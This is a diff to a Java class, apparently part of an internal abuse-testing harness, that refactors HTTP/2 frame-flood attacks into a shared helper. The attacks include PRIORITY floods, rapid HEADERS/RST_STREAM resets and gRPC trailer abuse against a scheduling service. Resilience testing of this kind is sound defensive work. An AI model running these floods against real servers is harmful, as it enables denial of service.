@@ -23,6 +23,7 @@ import dev.dueline.system.abuse.wire.Trait;
 import java.io.IOException;
 import java.time.Duration;
 import java.util.List;
+import java.util.function.ObjIntConsumer;
 
 /** Frames that carry nothing, or are of no call any more, as fast as they are taken. */
 final class FrameFloods {
@@ -112,14 +113,22 @@ final class FrameFloods {
   }
 
   private static void priority(Attacker attacker) throws InterruptedException {
+    onNewStreams(
+        attacker, 1_000, (frames, stream) -> frames.add(PRIORITY, NO_FLAGS, stream, PRIORITIES));
+  }
+
+  /** Frames on one stream after the other, those of so many at a time. */
+  private static void onNewStreams(Attacker attacker, int count, ObjIntConsumer<Frames> add)
+      throws InterruptedException {
     attacker.repeatedly(
         connection -> {
           while (!attacker.isOver() && connection.ending().isEmpty()) {
             Frames frames = new Frames();
-            for (int i = 0; i < 1_000; i++) {
-              frames.add(PRIORITY, NO_FLAGS, connection.newStream(), PRIORITIES);
+            for (int i = 0; i < count; i++) {
+              add.accept(frames, connection.newStream());
             }
             connection.write(frames.toBytes());
+            attacker.counts().add(count + " streams");
           }
         });
   }
@@ -134,18 +143,13 @@ final class FrameFloods {
 
   private static void resets(Attacker attacker, String token) throws InterruptedException {
     byte[] block = HeaderBlock.call(Paths.SCHEDULE, token).toBytes();
-    attacker.repeatedly(
-        connection -> {
-          while (!attacker.isOver() && connection.ending().isEmpty()) {
-            Frames frames = new Frames();
-            for (int i = 0; i < 200; i++) {
-              int stream = connection.newStream();
-              frames.add(HEADERS, END_HEADERS, stream, block);
-              frames.add(RST_STREAM, NO_FLAGS, stream, Frames.number(CANCEL));
-            }
-            connection.write(frames.toBytes());
-          }
-        });
+    onNewStreams(
+        attacker,
+        200,
+        (frames, stream) ->
+            frames
+                .add(HEADERS, END_HEADERS, stream, block)
+                .add(RST_STREAM, NO_FLAGS, stream, Frames.number(CANCEL)));
   }
 
   /** On a stream that the attacker has closed. */
@@ -187,51 +191,33 @@ final class FrameFloods {
     return Attack.of(
             name,
             attacker ->
-                attacker.repeatedly(
-                    connection -> {
-                      while (!attacker.isOver() && connection.ending().isEmpty()) {
-                        Frames frames = new Frames();
-                        for (int i = 0; i < 200; i++) {
-                          int stream = connection.newStream();
-                          frames.add(HEADERS, END_HEADERS, stream, block);
-                          frames.add(HEADERS, flags, stream, FIELD);
-                        }
-                        connection.write(frames.toBytes());
-                        attacker.counts().add("200 calls");
-                      }
-                    }))
+                onNewStreams(
+                    attacker,
+                    200,
+                    (frames, stream) ->
+                        frames
+                            .add(HEADERS, END_HEADERS, stream, block)
+                            .add(HEADERS, flags, stream, FIELD)))
         .until(CUT);
   }
 
   /** gRPC takes trailers for another call of the same stream. */
   private static void callsByTrailers(Attacker attacker) throws InterruptedException {
     byte[] block = HeaderBlock.call(Paths.SCHEDULE, attacker.target().token()).toBytes();
-    attacker.repeatedly(
-        connection -> {
-          while (!attacker.isOver() && connection.ending().isEmpty()) {
-            Frames frames = new Frames();
-            for (int i = 0; i < 100; i++) {
-              int stream = connection.newStream();
-              frames.add(HEADERS, END_HEADERS, stream, block);
-              frames.add(HEADERS, END_HEADERS | END_STREAM, stream, block);
-            }
-            connection.write(frames.toBytes());
-            attacker.counts().add("100 calls");
-          }
-        });
+    onNewStreams(
+        attacker,
+        100,
+        (frames, stream) ->
+            frames
+                .add(HEADERS, END_HEADERS, stream, block)
+                .add(HEADERS, END_HEADERS | END_STREAM, stream, block));
   }
 
   private static void resetsOfNothing(Attacker attacker) throws InterruptedException {
-    attacker.repeatedly(
-        connection -> {
-          while (!attacker.isOver() && connection.ending().isEmpty()) {
-            Frames frames = new Frames();
-            for (int i = 0; i < 1_000; i++) {
-              frames.add(RST_STREAM, NO_FLAGS, connection.newStream(), Frames.number(CANCEL));
-            }
-            connection.write(frames.toBytes());
-          }
-        });
+    onNewStreams(
+        attacker,
+        1_000,
+        (frames, stream) -> frames.add(RST_STREAM, NO_FLAGS, stream, Frames.number(CANCEL)));
   }
 
   /** Headers of a stream that is closed count for no call. */
